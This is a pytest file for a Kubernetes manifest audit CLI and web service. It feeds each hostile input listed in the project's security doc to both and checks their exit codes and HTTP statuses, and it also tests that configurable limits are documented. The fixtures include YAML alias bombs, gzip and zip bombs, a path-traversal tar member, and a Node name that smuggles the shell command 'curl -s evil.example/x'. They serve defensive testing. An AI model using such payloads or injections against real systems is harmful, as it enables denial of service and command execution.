"""docs/security.md's table of hostile inputs is what the CLI and the service answer (issue 12).

Each row of the table names an input below; the test feeds it to ``verdict audit`` (click's runner) and to
``POST /v1/evaluate`` (Flask's test client) and checks the exit status and the HTTP status against the row.
A row without a case here, or a case without a row, fails. Inputs are built small where the limit is what is
tested (the unpacking budget is lowered for the archive bombs; the doc gives the real defaults).
"""

from __future__ import annotations

import gzip
import io
import json
import re
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from api import create_app
from rules import reader
from rules.cli import main

ROOT = Path(__file__).resolve().parent.parent
DOC = ROOT / "docs" / "security.md"
NODE = b"apiVersion: v1\nkind: Node\nmetadata: {name: n1}\n"
SMALL_BUDGET = 4 << 20  # the archive bombs below unpack past it; the real budgets are 1 GiB (CLI), 256 MiB (HTTP)


def _laughs() -> bytes:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"{c}: &{c} [" + ", ".join([f"*{p}"] * 10) + "]" for p, c in zip("abcdefgh", "bcdefghi", strict=True)]
    return ("kind: ConfigMap\n" + "\n".join(lines) + "\n").encode()


def _nested_gzip() -> bytes:
    data = NODE
    for _ in range(1500):
        data = gzip.compress(data, compresslevel=1)
    return data


def _gzip_bomb() -> bytes:
    return gzip.compress(b"\0" * (SMALL_BUDGET + (1 << 20)), compresslevel=9)


def _zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("big.yaml", b" " * (SMALL_BUDGET + (1 << 20)))
    return buf.getvalue()


def _traversal_tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in (("../../etc/evil.yaml", NODE.replace(b"n1", b"evil")), ("good/node.yaml", NODE)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _huge_label() -> bytes:
    node = {"apiVersion": "v1", "kind": "Node", "metadata": {"name": "n", "labels": {"nvidia.com/gpu.present": "true",
            "nvidia.com/gpu.workload.config": "x" * 5_000_000}}}  # fmt: skip
    return json.dumps(node).encode()


#: input name (as in the doc's first column) -> how to make it
INPUTS: dict[str, Callable[[], bytes]] = {
    "empty input": lambda: b"",
    'JSON that is not a Kubernetes object (`{"foo": 1}`)': lambda: b'{"foo": 1}',
    "only broken YAML documents (2,000)": lambda: "".join(
        f"---\nkind: ConfigMap\nmetadata: {{name: c{i}\n" for i in range(2000)
    ).encode(),
    "alias bomb (billion laughs)": _laughs,
    "flood of tiny YAML values (`[a,a,...]`, 7 MB)": lambda: b"[" + b"a," * (7 << 19) + b"a]",
    # trial 206: each item was an input error of its own (a 6 MB [a,a,...]: a 397 MB problem document)
    "a list of plain values under that bound (`[1,1,...]`, 200,000 of them; `[a,a,...]` of 6 MB is read in 7 s and"
    " 150 MB)": lambda: b"[" + b"1," * 199_999 + b"1]",
    "YAML nested 150 levels": lambda: ("kind: ConfigMap\ndata:\n" + "".join("  " * i + "- \n" for i in range(1, 150))).encode(),
    "JSON nested 20,000 levels": lambda: b'{"kind": "ConfigMap", "data": ' + b"[" * 20000 + b"]" * 20000 + b"}",
    # trial 196: orjson reads 1,024 levels and writes 255: between the two the CLI crashed and the service said 500
    "one JSON List item nested 300 levels": lambda: (
        b'{"apiVersion": "v1", "kind": "List", "items": [{"kind": "ConfigMap", "metadata": {"name": "a"}},'
        b' {"kind": "ConfigMap", "metadata": {"name": "b"}, "data": ' + b"[" * 300 + b"]" * 300 + b"}]}"
    ),
    "gzip nested 1,500 levels": _nested_gzip,
    "gzip bomb (unpacks past the budget)": _gzip_bomb,
    "zip bomb (unpacks past the budget)": _zip_bomb,
    "binary garbage (not UTF-8, not an archive)": lambda: b"\x7fELF\x02\x01\x01\x00\xff\xfe\x80\x81",
    "tar with a `../` member": _traversal_tar,
    "a key twice in one mapping (two files joined without `---`)": lambda: (
        b"apiVersion: v1\nkind: Node\nmetadata: {name: a}\napiVersion: v1\nkind: Node\nmetadata: {name: b}\n"
        b"---\napiVersion: v1\nkind: Node\nmetadata: {name: c}\n"
    ),
    'a key twice in one JSON mapping (`"name": "a", "name": "b"`)': lambda: (
        b'{"apiVersion": "v1", "kind": "Node", "metadata": {"name": "a", "name": "b"}}'
    ),
    "a JSON List or array that does not parse (an item missing its `}`, a file cut short), its items one a line or as"
    " kubectl indents them": lambda: (
        b'{"apiVersion": "v1", "kind": "List", "items": [\n'
        b'{"apiVersion": "v1", "kind": "Node", "metadata": {"name": "a"}},\n'
        b'{"apiVersion": "v1", "kind": "Node", "metadata": {"name": "b"},\n'
        b'{"apiVersion": "v1", "kind": "Node", "metadata": {"name": "c"}}\n]}\n'
    ),
    "JSON that ends inside a value (a List on one line, cut short)": lambda: json.dumps(
        {
            "apiVersion": "v1",
            "kind": "List",
            # ConfigMaps, which no built-in rule judges: the items before the cut are read now, and judging 20,000
            # Nodes would make this a test of evaluation, not of reading
            "items": [{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": f"c{i}"}} for i in range(20_000)],
        }
    ).encode()[:-100],
    "5 MB label value": _huge_label,
    "a Node named as a shell command (`gpu-1 && curl -s evil.example/x #`)": lambda: (
        b'apiVersion: v1\nkind: Node\nmetadata:\n  name: "gpu-1 && curl -s evil.example/x #"\n'
        b"  labels: {nvidia.com/gpu.present: 'true', nvidia.com/gpu.workload.config: vm_passthrough}\n"
        b"status: {allocatable: {nvidia.com/gpu: '4'}, capacity: {nvidia.com/gpu: '4'}}\n"
    ),
}


def doc_rows() -> dict[str, tuple[str, str]]:
    """input -> (CLI exit, HTTP status) from the doc's table of hostile inputs."""
    text = DOC.read_text(encoding="utf-8")
    table = text.split("## Hostile inputs", 1)[1].split("\n## ", 1)[0]
    rows = {}
    for line in table.splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) >= 3 and cells[0] and not set(cells[0]) <= {"-"} and cells[0] != "input":
            rows[cells[0]] = (cells[1].split()[0], cells[2].split()[0])
    return rows


def test_every_hostile_input_of_the_doc_has_a_case_and_back() -> None:
    assert set(doc_rows()) == set(INPUTS)


@pytest.fixture(scope="module")
def client():
    return create_app({"MAX_DECODED_LENGTH": SMALL_BUDGET}).test_client()


@pytest.mark.parametrize("name", list(INPUTS))
def test_the_cli_and_the_service_answer_as_the_doc_says(name: str, client, tmp_path: Path, monkeypatch) -> None:
    cli_exit, http_status = doc_rows()[name]
    data = INPUTS[name]()
    monkeypatch.setattr(reader.Budget.__init__, "__defaults__", (SMALL_BUDGET, None))
    path = tmp_path / "input.bin"
    path.write_bytes(data)
    result = CliRunner().invoke(main, ["audit", str(path), "-o", str(tmp_path / "report.json")])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert str(result.exit_code) == cli_exit, result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    resp = client.post("/v1/evaluate", data=data, headers={"Content-Type": "application/octet-stream"})
    assert str(resp.status_code) == http_status, resp.get_data(as_text=True)[:2000]
    if resp.status_code >= 400:
        assert resp.mimetype == "application/problem+json"
    # no answer grows with a hostile value; the one that lists each broken document (its line, and where what
    # is left open starts) grows with their number, under 200 bytes each
    bound = 2_000 * 200 if name == "only broken YAML documents (2,000)" else 300_000
    assert len(resp.get_data()) < bound


def test_the_doc_states_every_limit_with_its_default() -> None:
    from api.config import DEFAULT_EVAL_BUDGET, DEFAULT_MAX_BODY, DEFAULT_MAX_DECODED, DEFAULT_READ_TIMEOUT, DEFAULT_THREADS
    from rules import evaluate, operators, yamlsafe

    text = DOC.read_text(encoding="utf-8")
    for value in (
        f"{DEFAULT_MAX_BODY >> 20} MiB",
        f"{DEFAULT_MAX_DECODED >> 20} MiB",
        f"{reader.MAX_UNPACKED_BYTES >> 30} GiB",
        f"{reader.STREAM_FACTOR} times the bound above",
        f"{reader.MAX_ARCHIVE_DEPTH} levels",
        f"{yamlsafe.MAX_DEPTH} levels",
        f"{yamlsafe.MAX_ALIAS_ADDED:,}",
        f"{yamlsafe.VALUE_FLOOR:,}",
        f"{operators.MAX_REGEX_LENGTH:,} characters",
        f"{evaluate.MAX_MESSAGE_CHARS:,}",
        f"{evaluate.MAX_VALUE_CHARS:,}",
        f"{evaluate.MAX_CONFLICT_NOTES_PER_KIND} per kind",
        f"{reader.MAX_ITEM_ERRORS} per dump",
        f"`{DEFAULT_READ_TIMEOUT}` s",
        f"`{DEFAULT_EVAL_BUDGET}` s",
        f"`{DEFAULT_THREADS}` threads",
    ):
        assert re.search(re.escape(value), text), value


def test_every_limit_is_a_setting_and_a_bad_value_stops_the_start(tmp_path: Path) -> None:
    """Issue 12: a limit is configurable, documented with its default, and a bad value is one line and exit 2
    (CLI) or a refusal to start (service, api.config.ConfigError)."""
    import subprocess
    import sys

    from api.config import ConfigError, from_env
    from rules.limits import DEFAULTS

    text = DOC.read_text(encoding="utf-8")
    for name in DEFAULTS:
        assert f"`{name}`" in text, name
    probe = (
        "from rules import evaluate, operators, reader, yamlsafe; print(reader.MAX_ARCHIVE_DEPTH, yamlsafe.MAX_ALIAS_ADDED,"
        " operators.MAX_REGEX_LENGTH, evaluate.MAX_MESSAGE_CHARS)"
    )
    env = {"VERDICT_MAX_ARCHIVE_DEPTH": "3", "VERDICT_MAX_ALIAS_ADDED": "500", "VERDICT_MAX_REGEX_LENGTH": "64",
           "VERDICT_MAX_MESSAGE_CHARS": "999", "PATH": "/usr/bin:/bin"}  # fmt: skip
    out = subprocess.run([sys.executable, "-c", probe], env=env, cwd=ROOT, capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["3", "500", "64", "999"]
    bad = subprocess.run(
        [sys.executable, "-m", "rules.cli", "audit", "x.yaml"],
        env={"VERDICT_MAX_NESTING": "lots", "PATH": "/usr/bin:/bin"},
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert bad.returncode == 2
    assert bad.stderr.strip() == (
        "verdict: VERDICT_MAX_NESTING='lots' is not a whole number above 0 (YAML/JSON nesting levels; default 100)"
    )
    with pytest.raises(ConfigError) as err:
        from_env({"VERDICT_MAX_YAML_EVENTS": "0"})
    assert str(err.value).startswith("VERDICT_MAX_YAML_EVENTS='0' is not a whole number above 0")
